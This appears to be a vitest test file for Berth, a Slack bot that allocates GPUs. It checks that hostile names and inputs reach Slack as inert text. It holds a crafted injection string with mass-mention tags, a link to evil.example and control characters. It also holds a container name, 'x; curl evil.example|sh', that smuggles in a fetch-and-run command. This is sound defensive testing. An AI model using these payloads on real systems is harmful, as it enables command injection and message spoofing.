// Row A12: what people, processes, images and hosts call things is shown as text: it pings nobody, links nowhere and breaks no message.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { DesiredList, Report, Welcome } from '../../src/domain/host-protocol.ts';
import { checkBlocks } from '../../src/local/slack/blocks.ts';
import { people, testPolicy } from '../support/policy.ts';
import { CHANNEL, startStory, type Story } from '../support/story.ts';
import { commandBody, send, sendSigned } from './support.ts';

const MARKUP = '*_~loud~_*';
const EVIL = `${MARKUP} \`x\` <!channel> <!here|x> <@U0VICTIM1> <#C0VICTIM1> <https://evil.example|a> &lt;!everyone&gt; \`\`\` \u202Egnp\u200B\u0007\u0000\n>q`;
const { ada, bob, pat } = people;

let story: Story;

beforeAll(async () => {
  const images = [
    { name: 'test', reference: 'berth-test:1' },
    { name: 'evil', reference: EVIL.replaceAll('\u0000', '') },
  ];
  story = await startStory({ policy: testPolicy({ images, quota: { gpus: 9, gpusPerRequest: 2, cpuContainers: 2 } }) });
  story.slack.addMember({ id: ada, name: EVIL + 'n'.repeat(5000), realName: EVIL });
  await story.startHost({
    name: 'gpu-01',
    gpus: 3,
    wrapProbe: (probe) => ({
      ...probe,
      sample: async () => {
        const sample = await probe.sample();
        if (sample.kind === 'failed') return sample;
        const stranger = (uuid: string | undefined, command: string) => ({
          uuid: uuid ?? '',
          pid: 7,
          command,
          owner: EVIL.slice(0, 63),
          memoryUsedMib: 900,
          containerId: null,
        });
        // The second is cut through the middle of a character, as a cut at a fixed length does.
        const processes = [stranger(sample.gpus[1]?.uuid, EVIL.slice(0, 200)), stranger(sample.gpus[2]?.uuid, `${'c'.repeat(198)}\ud83d`)];
        return { ...sample, processes };
      },
    }),
  });
  await story.until(async () => (await story.gpu(bob, 'status')).includes('1 of 3'), 'one free GPU and two with strangers');
});
afterAll(async () => story.end());

/** Every string in a message that Slack would read, with whether it reads markup in it. */
function textsOf(value: unknown): { text: string; markup: boolean }[] {
  if (typeof value !== 'object' || value === null) return [];
  if ('type' in value && 'text' in value && typeof value.text === 'string') return [{ text: value.text, markup: value.type === 'mrkdwn' }];
  return Object.values(value).flatMap(textsOf);
}

function harmless({ text, blocks }: { readonly text: string; readonly blocks: readonly unknown[] }): void {
  expect(checkBlocks(blocks)).toEqual([]);
  for (const each of [{ text, markup: false }, ...textsOf(blocks)]) {
    expect(each.text).not.toMatch(/<!(?!date\^\d+\^)/);
    expect(each.text).not.toMatch(/<[@#][UC]0VICTIM1|<[^>|]*evil\.example/);
    expect(each.text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}]/u);
    expect(each.text.length).toBeLessThanOrEqual(3000);
    if (!each.markup) continue;
    const outside = each.text.replace(/```[^`]*```|`[^`\n]*`/g, '');
    expect(outside).not.toContain('`');
    expect(outside).not.toContain(MARKUP);
  }
}

/** All that Berth has said anywhere; at least `count` messages. */
function allHarmless(count: number): void {
  const places = [ada, bob, pat].flatMap((user) => [CHANNEL, story.slack.dm(user)].map((channel) => [user, channel] as const));
  const said = places.flatMap(([user, channel]) => story.slack.messagesSeenBy(user, channel));
  const ours = said.filter(({ author }) => author === story.slack.botUserId);
  expect(ours.length).toBeGreaterThanOrEqual(count);
  for (const message of ours) harmless(message);
}

it('shows a purpose, a name and an image on the card and in direct messages', async () => {
  expect(await story.gpu(ada, `request 1 a100 image evil for 2h -- ${EVIL}`)).toContain('waits for an approval');
  await story.setPolicy(testPolicy({ quota: { gpus: 9, gpusPerRequest: 2, cpuContainers: 2 } }));
  const { words } = await story.sees(pat, CHANNEL, /asks for/);
  expect(words).toContain(MARKUP);
  await story.press(pat, CHANNEL, 'approve');
  await story.sees(ada, story.slack.dm(ada), /could not be started/);
  await story.sees(pat, CHANNEL, /Could not be started: the image/);
  await story.gpu(ada, `request 1 a100 for 2h "${EVIL.replaceAll('`', "'")}"`);
  await story.sees(pat, CHANNEL, /Waiting for an approval/);
  await story.press(pat, CHANNEL, 'approve');
  await story.sees(ada, story.slack.dm(ada), /Your container runs/);
  await story.gpu(ada, 'mine');
  allHarmless(6);
});

it('shows strangers’ processes, whatever they are called', async () => {
  const { message } = await story.slack.command(bob, CHANNEL, '/gpu', 'status');
  expect(message?.words).toMatch(/GPU 1 is used by[\s\S]*GPU 2 is used by/);
  expect(message?.words).toContain('loud');
  allHarmless(7);
});

it('repeats what it did not understand without obeying it', async () => {
  const typed = [EVIL, `request ${EVIL}`, `request 1 ${EVIL}`, `request 1 a100 for ${EVIL}`, `request 1 a100 until ${EVIL}`];
  const more = [
    `request 1 a100 image \`${EVIL}`,
    `request 1 a100 on ${EVIL}`,
    `release ${EVIL}`,
    `cancel ${EVIL}`,
    `request 1 a100 run "${EVIL}"`,
  ];
  const long = [
    `request ${'<!channel>'.repeat(1000)}`,
    `${'\u202E'.repeat(5000)}request`,
    `request 1 a100 -- ${EVIL.repeat(40)}`,
    'a'.repeat(10_000),
  ];
  for (const text of [...typed, ...more, ...long]) {
    const { status, body } = await sendSigned(story, { body: commandBody(story, bob, text, { response_url: '' }) });
    expect(status).toBe(200);
    if (body !== '') harmless(JSON.parse(body) as { text: string; blocks: unknown[] });
  }
  allHarmless(7);
});

it('shows no way in that a host has made up', async () => {
  const socket = { socketPath: story.agentSockets[0] ?? '' };
  const post = async <T>(path: string, message: object): Promise<T> => {
    const { status, body } = await send(socket, {
      method: 'POST',
      path,
      body: JSON.stringify({ protocol: 1, host: 'gpu-02', ...message }),
    });
    expect([status, body]).toEqual([200, expect.any(String)]);
    return JSON.parse(body) as T;
  };
  const { run } = await post<Welcome>('/v1/hello', {
    agentVersion: EVIL.slice(0, 40),
    engine: { kind: 'docker', version: EVIL.slice(0, 80) },
    gpus: 'nvidia',
  });
  const uuid = `GPU-${randomUUID()}`;
  const numbers = { index: 0, memoryMib: 24_576, memoryUsedMib: 0, utilizationPercent: 0, foreignMemoryMib: 0 };
  const devices = [{ uuid, model: `L4 ${EVIL.slice(0, 100)}`, ...numbers, foreign: [] }];
  const orphans = [
    { allocation: EVIL.slice(0, 64), fence: 0, containerId: EVIL.slice(0, 64), containerName: EVIL.slice(0, 128), running: true },
  ];
  const problems = [{ code: 'probe_failed' as const, detail: EVIL, blocking: false }];
  const report = async (sequence: number, appliedRevision: number, allocations: Report['allocations']) =>
    post('/v1/report', { run, sequence, appliedRevision, allocations, orphans, devices, problems });
  await report(1, 0, []);
  await story.until(async () => (await story.gpu(bob, 'status')).includes('`l4`: 1 of 1'), 'the made-up host');
  await story.gpu(bob, 'request 1 l4 for 1h');
  const list = await story.until(async () => {
    const { status, body } = await send(socket, { path: `/v1/desired?run=${run}&after=0` });
    const found = status === 200 ? (JSON.parse(body) as DesiredList) : null;
    return found?.containers.length === 1 ? found : null;
  }, 'the order');
  const [{ allocation, fence } = { allocation: '', fence: 0 }] = list.containers;
  const named = {
    containerId: EVIL.slice(0, 64),
    containerName: `x; curl evil.example|sh #${EVIL.slice(0, 90)}`,
    startedAt: new Date().toISOString(),
  };
  await report(2, list.revision, [{ allocation, fence, status: 'running', ...named, devices: [uuid] }]);
  const card = await story.sees(bob, story.slack.dm(bob), /Your container runs/);
  expect(card.words).not.toContain('docker exec');
  expect(card.text).not.toContain('curl');
  await story.gpu(bob, 'status');
  allHarmless(8);
});
